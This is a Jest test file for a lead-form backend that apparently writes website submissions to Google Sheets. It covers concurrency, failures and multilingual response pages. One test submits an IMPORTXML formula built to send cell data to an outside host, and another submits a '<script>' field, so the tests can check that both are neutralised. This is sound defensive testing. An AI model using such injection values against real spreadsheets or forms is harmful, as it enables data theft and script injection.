/** @jest-environment node */
import { contentIn } from "@/content-model/content";
import { languages, type Language } from "@/content-model/languages";
import { eventOf, FakeGoogle } from "./fake-google";
import {
  sampleLeads,
  without,
  type Fields,
} from "@/components/lead-form/leads.fixture";

const { booking, consultation } = sampleLeads;
const receivedAt = "2026-11-21T12:30:00+05:30";
const trouble = "Your request could not be saved just now.";

let google: FakeGoogle;
let script: ReturnType<FakeGoogle["load"]>;

beforeEach(() => {
  google = new FakeGoogle();
  script = google.load({
    notify: "desk@example.in",
    phone: "+91 11 2345 6789",
  });
});

const post = (fields: Fields) => script.doPost(eventOf(fields));

const postAndParse = (fields: Fields) =>
  JSON.parse(post(fields).body) as { ok: boolean; error?: string };

/** The rows of a tab without the headings, with the columns up to and including receivedAt. */
const rows = (tab = "Booking") =>
  (google.sheets?.[tab]?.rows ?? [])
    .slice(1)
    .map((cells) => cells.slice(0, tab === "Booking" ? 6 : 10));

describe("a request sent by the site", () => {
  test("is stored as one row, with receivedAt, in the tab of its form, and gets ok: true", () => {
    expect(post(booking)).toEqual({ type: "json", body: '{"ok":true}' });
    post(consultation);

    const tabs = { Booking: booking, Consultation: consultation };
    for (const [tab, lead] of Object.entries(tabs)) {
      expect(google.sheets![tab]!.rows[0]).toEqual(
        expect.arrayContaining([...Object.keys(lead), "receivedAt"]),
      );
      expect(rows(tab)).toEqual([[...Object.values(lead), receivedAt]]);
    }
    expect(google.sheets!.Booking!.frozenRows).toBe(1);
    expect(google.locked).toBe(false);
  });

  test("is stored as typed: Hindi, line breaks, a leading zero, and formulas that do not run", () => {
    const typed = {
      ...booking,
      parentName: '=IMPORTXML("http://example.com/?"&A1,"//a")',
      phoneNumber: "09876543210",
      serviceRequest: "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं",
    };

    post(typed);

    expect(rows()).toEqual([[...Object.values(typed), receivedAt]]);
  });
});

test("of two simultaneous posts, equal ones become one row and different ones two, also when the sheet must grow", () => {
  google.whileWaiting = () => post({ ...booking, parentName: "Ravi Roy" });
  post(booking);
  google.whileWaiting = () => post({ ...booking, parentName: "Meera" });
  post({ ...booking, parentName: "Meera" });

  const names = rows().map(([name]) => name);
  // A new tab of the fake has three rows. The headings and three leads need a fourth.
  expect(names).toEqual(["Ravi Roy", "Asha Sen", "Meera"]);
  expect(google.mails).toHaveLength(3);
});

describe("the answer is an error, not ok", () => {
  test("when the row cannot be written; the lock is released and a second attempt succeeds", () => {
    post(consultation);
    const sheet = google.sheets!.Consultation!;
    const lead = { ...consultation, childName: "Rani" };
    sheet.isFailing = true;

    expect(postAndParse(lead)).toEqual({ ok: false, error: trouble });
    expect(google.locked).toBe(false);
    expect(google.mails).toHaveLength(1);
    expect(google.log.join()).not.toContain("Asha");

    sheet.isFailing = false;
    expect(postAndParse(lead)).toEqual({ ok: true });
    expect(rows("Consultation")).toHaveLength(2);
  });

  test("when the script belongs to no spreadsheet", () => {
    google.sheets = undefined;

    expect(postAndParse(booking)).toEqual({ ok: false, error: trouble });
    expect(google.log.join()).toContain("no spreadsheet");
  });

  test("when a field is unknown or sent twice, or the event is not in Google's format", () => {
    const unknown = { ...booking, card: "1" };
    const twice = { parentName: ["A", "B"], location: ["x"], timestamp: ["t"] };

    expect(postAndParse(unknown).error).toMatch(/"card"\.$/);
    expect(script.doPost({ parameters: twice }).body).toContain("twice");
    for (const event of [undefined, null, {}, { parameters: { location: 5 } }])
      expect(JSON.parse(script.doPost(event).body).ok).toBe(false);
    expect(google.sheets).toEqual({});
  });
});

describe("a browser without JavaScript", () => {
  const nativePost = without("timestamp", booking);

  const sectionIn = ({ code }: Language, body: string) =>
    body.split(`<section lang="${code}">`)[1]?.split("</section>")[0];

  test("shows the site's thanks in each language of the site, and the empty timestamp is filled with the server's time", () => {
    const answer = post({ ...nativePost, timestamp: "" });

    expect(answer).toMatchObject({ type: "html", title: "Thank you | धन्यवाद" });
    for (const language of languages)
      expect(sectionIn(language, answer.body)).toContain(
        `<p>${contentIn(language).leadForm.success}</p>`,
      );
    expect(answer.body).toContain('href="tel:+911123456789"');
    expect(rows()[0]!.at(-2)).toBe("2026-11-21T07:00:00.000Z");
  });

  test("gets the error in each language, with markup shown as text, and the number to call", () => {
    const answer = post({ ...nativePost, "<script>": "" });

    expect(answer.title).toBe("Your request was not sent | आपका फ़ॉर्म नहीं गया");
    for (const language of languages)
      expect(sectionIn(language, answer.body)).toMatch(
        /<p>[^\n]*&lt;script&gt;[^\n]*[.।] [^\n]{50,}[.।]<\/p>\n<p>[^\n]*tel:/,
      );
    expect(answer.body).not.toContain("<script>");
    expect(rows()).toEqual([]);
  });

  test("gets the JSON answer when Google cannot make a page", () => {
    google.pagesWork = false;

    expect(post(nativePost)).toEqual({ type: "json", body: '{"ok":true}' });
  });
});
